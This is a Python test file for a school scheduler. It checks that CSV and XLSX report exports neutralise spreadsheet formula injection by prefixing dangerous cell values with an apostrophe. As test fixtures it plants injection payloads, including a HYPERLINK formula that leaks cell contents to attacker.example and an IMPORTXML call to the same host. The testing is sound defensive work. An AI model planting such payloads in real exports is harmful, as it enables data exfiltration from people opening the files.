"""Formula injection: names that a spreadsheet would run as formulas come out of every CSV and XLSX export as text.

A school admin can name a teacher ``=HYPERLINK(...)``, a researcher can be called ``@SUM(1+1)``: every
export endpoint (the six reports in both formats, the timetable CSV) is read back as a spreadsheet would
read it, and no cell may start a formula, while the planted names are still there (defused, with a
leading apostrophe) and the numbers are still numbers.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from scheduler.exports import FORMULA_PREFIXES, cell
from scheduler.models import LessonInstance, LessonSeries, Region, School, User
from tests.scheduler.test_record_reports import NOW, build_reports_world

WEEK = {"date_from": "2026-09-07", "date_to": "2026-09-14"}
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"点我查看")'


def test_cell_defuses_text_and_keeps_numbers() -> None:
    for text in (HYPERLINK, "+1+1", "-1+1", "@SUM(1+1)", "\t=1", "\r=1", "-3"):
        assert cell(text) == "'" + text
    assert (cell(-3), cell(-2.5), cell(0), cell(None)) == (-3, -2.5, 0, None)
    assert cell("王老师") == "王老师" and cell("3-1") == "3-1" and cell("") == ""


@pytest.fixture
def planted(session_factory: Any, world: Any, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """The report world, with every name an export shows renamed to a formula (one per prefix)."""
    monkeypatch.setattr("scheduler.clock.now", lambda: NOW)
    with session_factory() as s:
        rw = build_reports_world(s, world)
        names = {
            (User, world.teacher.id, "display_name"): HYPERLINK,
            (User, world.teacher2.id, "display_name"): "+SUM(1,1)",
            (User, world.teacher_b.id, "display_name"): "-2+3",
            (User, world.researcher_a.id, "display_name"): "@SUM(1+1)",
            (User, world.researcher_b.id, "display_name"): "\t=1+1",
            (User, world.student.id, "display_name"): "\r=1+1",
            (School, world.urban.id, "name"): "=1+1 实验小学",
            (School, world.rural.id, "name"): "@石桥村小",
            (Region, world.district_a.id, "name"): "-东区",
            (LessonSeries, rw.series["S1"], "title"): "=IMPORTXML(\"http://attacker.example\",\"//a\")",
            (LessonSeries, rw.series["S1"], "subject"): "+数学",
            (LessonSeries, rw.series["S2"], "title"): "@语文",
            (LessonInstance, rw.lessons["L6"], "cancel_reason"): "=1+1 停课",
        }
        for (model, key, attr), value in names.items():
            setattr(s.get(model, key), attr, value)
        s.commit()
    return {"lesson": rw.lessons["L1"], "names": set(names.values())}


def _csv_cells(content: bytes) -> list[Any]:
    assert content.startswith("\ufeff".encode())
    return [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for c in row]


def _xlsx_cells(content: bytes) -> list[Any]:
    cells = []
    for row in load_workbook(io.BytesIO(content)).active.iter_rows():
        for c in row:
            assert c.data_type != "f", (c.coordinate, c.value)
            cells.append(c.value)
    return cells


def test_no_export_carries_a_formula(client: Any, world: Any, auth: Any, planted: dict[str, Any]) -> None:
    reports = [("/summary", {}), ("/patrol", {}), ("/lessons", {}), ("/attendance", {}),
               (f"/lessons/{planted['lesson']}", {})]
    reports += [("/breakdown", {"by": by}) for by in ("kind", "school", "teacher", "subject", "region")]
    files: dict[str, list[Any]] = {}
    for path, params in reports:
        for fmt in ("csv", "xlsx"):
            r = client.get(f"/api/v1/reports{path}", params={**WEEK, **params, "format": fmt},
                           headers=auth(world.city_admin))
            assert r.status_code == 200, (path, params, fmt, r.text)
            files[f"{path} {params} {fmt}"] = (_csv_cells if fmt == "csv" else _xlsx_cells)(r.content)
    r = client.get("/api/v1/timetable/export.csv", params=WEEK, headers=auth(world.city_admin))
    assert r.status_code == 200, r.text
    files["/timetable/export.csv"] = _csv_cells(r.content)

    for name, cells in files.items():
        live = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_PREFIXES)]
        assert not live, (name, live)
    seen = {c for cells in files.values() for c in cells if isinstance(c, str)}
    # every planted name is exported, as the text it is
    assert {n for n in planted["names"] if "'" + n not in seen} == set()
    # a CSV cell holds the name whole (no quoting lost), an XLSX cell too
    assert "'" + HYPERLINK in files["/breakdown {'by': 'teacher'} csv"]
    assert "'" + HYPERLINK in files["/breakdown {'by': 'teacher'} xlsx"]
    assert {"'@SUM(1+1)", "'\t=1+1"} <= set(files["/patrol {} xlsx"])
    # numbers are still numbers in the workbook
    sheet = load_workbook(io.BytesIO(client.get("/api/v1/reports/breakdown", params={
        **WEEK, "by": "teacher", "format": "xlsx"}, headers=auth(world.city_admin)).content)).active
    rows = list(sheet.iter_rows(values_only=True))
    row = dict(zip(rows[0], next(r for r in rows[1:] if r[0] == "'" + HYPERLINK)))
    assert (row["应开课"], row["开课率(%)"]) == (5, 60.0)  # numbers, not the texts "5" and "60.0"
